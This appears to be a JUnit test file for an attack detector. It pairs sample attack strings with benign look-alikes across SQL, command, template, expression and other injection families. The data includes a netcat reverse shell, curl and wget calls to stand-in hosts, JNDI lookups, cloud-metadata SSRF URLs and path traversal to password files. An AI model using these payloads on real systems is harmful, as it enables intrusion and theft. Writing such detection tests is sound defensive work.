// SPDX-License-Identifier: Apache-2.0
package dev.sallyport.detection.attack;

import static dev.sallyport.model.AttackFamily.CODE_INJECTION;
import static dev.sallyport.model.AttackFamily.COMMAND_INJECTION;
import static dev.sallyport.model.AttackFamily.CROSS_SITE_SCRIPTING;
import static dev.sallyport.model.AttackFamily.DESERIALISATION;
import static dev.sallyport.model.AttackFamily.EXPRESSION_INJECTION;
import static dev.sallyport.model.AttackFamily.FILE_INCLUSION;
import static dev.sallyport.model.AttackFamily.HEADER_INJECTION;
import static dev.sallyport.model.AttackFamily.LDAP_INJECTION;
import static dev.sallyport.model.AttackFamily.NOSQL_INJECTION;
import static dev.sallyport.model.AttackFamily.PATH_TRAVERSAL;
import static dev.sallyport.model.AttackFamily.SERVER_SIDE_REQUEST_FORGERY;
import static dev.sallyport.model.AttackFamily.SQL_INJECTION;
import static dev.sallyport.model.AttackFamily.TEMPLATE_INJECTION;
import static dev.sallyport.model.AttackFamily.XPATH_INJECTION;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.model.AttackFamily;
import java.util.List;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/** Each family beside what looks like it: values of one query argument. */
class AttacksTest {
  private record Pair(AttackFamily family, List<String> attacks, List<String> benign) {}

  private static final List<Pair> PAIRS =
      List.of(
          new Pair(
              SQL_INJECTION,
              List.of(
                  "7' or 'a'='a",
                  "7 union all select card, pin from accounts",
                  "1; drop table orders",
                  "x' and sleep(5) -- ",
                  "9 or 3=3",
                  "'; waitfor delay '0:0:9'--",
                  "1/**/union/**/select/**/2,3",
                  "1 and (select count(*) from information_schema.tables) > 0"),
              List.of(
                  "Bob's burgers and fries",
                  "the union will select a new chair",
                  "drop me a line",
                  "size = 4",
                  "O'Neill",
                  "order by tomorrow",
                  "tea & coffee")),
          new Pair(
              COMMAND_INJECTION,
              List.of(
                  "8.8.8.8; cat /etc/hosts",
                  "x | nc 10.1.1.1 4444 -e sh",
                  "$(curl evil.example/x)",
                  "a`id`",
                  "c''at /tmp/x",
                  "a && wget http://x.example/y",
                  "who$()ami",
                  "{cat,/tmp/x}",
                  "& dir c:\\ & ipconfig /all",
                  "for /f %i in ('whoami') do echo %i"),
              List.of(
                  "cat pictures",
                  "find the top ten",
                  "salt & vinegar",
                  "time flies",
                  "the cat sat; it purred",
                  "black or white",
                  "more info at home")),
          new Pair(
              CROSS_SITE_SCRIPTING,
              List.of(
                  "<script>go()</script>",
                  "\"><img src=x onerror=go()>",
                  "javascript:alert(1)",
                  "' onmouseover='alert(1)",
                  "<svg/onload=go()>",
                  "jav&#x09;ascript:alert(1)",
                  "<iframe src=//x.example>"),
              List.of(
                  "a < b and c > d", "i <3 you", "2 > 1", "on sale = cheap", "java script basics")),
          new Pair(
              PATH_TRAVERSAL,
              List.of(
                  "../../../../etc/passwd",
                  "..\\..\\boot.ini",
                  "..%2f..%2fetc%2fshadow",
                  "/proc/self/environ"),
              List.of("a..b", "v1...v2", "wait...", "docs/readme.md")),
          new Pair(
              SERVER_SIDE_REQUEST_FORGERY,
              List.of(
                  "http://169.254.169.254/latest/meta-data/",
                  "http://2130706433/",
                  "http://0x7f.1/",
                  "http://[::ffff:127.0.0.1]/",
                  "http://localhost:6379/",
                  "http://a.127.0.0.1.nip.io/"),
              List.of("www.example.com", "localhosts", "https://shop.example/a")),
          new Pair(
              FILE_INCLUSION,
              List.of(
                  "php://filter/convert.base64-encode/resource=x",
                  "file:///etc/hostname",
                  "http://203.0.113.9/x.txt?"),
              List.of("profile: gold", "php: an introduction")),
          new Pair(
              TEMPLATE_INJECTION,
              List.of(
                  "{{7*7}}",
                  "${7*7}",
                  "{{config.items()}}",
                  "#{system('id')}",
                  "{{''.__class__.__mro__}}"),
              List.of("{{name}}", "{first} {last}", "costs $5 {today}")),
          new Pair(
              EXPRESSION_INJECTION,
              List.of(
                  "${jndi:ldap://x.example/a}",
                  "${${lower:j}ndi:rmi://x.example/a}",
                  "${j${::-n}di:dns://x.example}",
                  "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
              List.of("$jndi", "price ${amount")),
          new Pair(
              CODE_INJECTION,
              List.of(
                  "<?php passthru('id'); ?>",
                  "system('id');",
                  "java.lang.Runtime",
                  "require('child_process')",
                  "@{[system 'id']}",
                  "__proto__[admin]",
                  "$_GET['x']"),
              List.of("the system (old)", "java coffee", "php developers")),
          new Pair(
              LDAP_INJECTION,
              List.of("*)(uid=*", "x)(|(mail=*)", "a))(&(cn=b"),
              List.of("f(x)", "call (me) maybe", "smile :)")),
          new Pair(
              NOSQL_INJECTION, List.of("{\"$ne\":null}", "a[$gt]"), List.of("$5", "[new] offer")),
          new Pair(
              XPATH_INJECTION,
              List.of("x' or name()='y", "a | /child::node()"),
              List.of("users/child")),
          new Pair(
              DESERIALISATION,
              List.of(
                  "O:4:\"Evil\":1:{s:1:\"a\";i:1;}",
                  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                  "InvokerTransformer"),
              List.of("O: four", "transformer")),
          new Pair(
              HEADER_INJECTION,
              List.of("x\r\nSet-Cookie: a=b", "x\r\nLocation: http://x.example"),
              List.of("first line\nsecond line", "note\nlocation unknown")));

  @TestFactory
  List<DynamicTest> attacksAreFoundAndTheirNeighboursAreNot() {
    return PAIRS.stream()
        .flatMap(
            pair ->
                java.util.stream.Stream.concat(
                    pair.attacks.stream().map(value -> attack(pair.family, value)),
                    pair.benign.stream().map(AttacksTest::benign)))
        .toList();
  }

  private static DynamicTest attack(AttackFamily family, String value) {
    return DynamicTest.dynamicTest(
        family + ": " + value.replace("\n", " "),
        () -> assertThat(Requests.families(Requests.query(value))).contains(family));
  }

  private static DynamicTest benign(String value) {
    return DynamicTest.dynamicTest(
        "silent: " + value.replace("\n", " "),
        () -> assertThat(Requests.found(Requests.query(value))).isEmpty());
  }
}
